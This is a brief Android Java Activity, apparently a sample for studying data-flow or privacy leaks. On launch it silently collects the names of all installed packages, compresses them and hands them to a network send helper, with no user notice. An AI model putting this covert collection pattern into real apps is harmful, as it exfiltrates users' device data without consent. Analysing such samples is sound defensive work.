package org.example.flows.phone;

import android.app.Activity;
import android.content.pm.PackageInfo;
import android.os.Bundle;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.example.flows.Net;

public class Apps extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        List<PackageInfo> found = getPackageManager().getInstalledPackages(0);
        StringBuilder names = new StringBuilder();
        for (int at = 0; at < found.size(); at++) {
            names.append(found.get(at).packageName).append('\n');
        }
        try {
            ByteArrayOutputStream packed = new ByteArrayOutputStream();
            GZIPOutputStream zip = new GZIPOutputStream(packed);
            zip.write(names.toString().getBytes("UTF-8"));
            zip.close();
            Net.send(packed.toByteArray());
        } catch (IOException ignored) {
            finish();
        }
    }
}
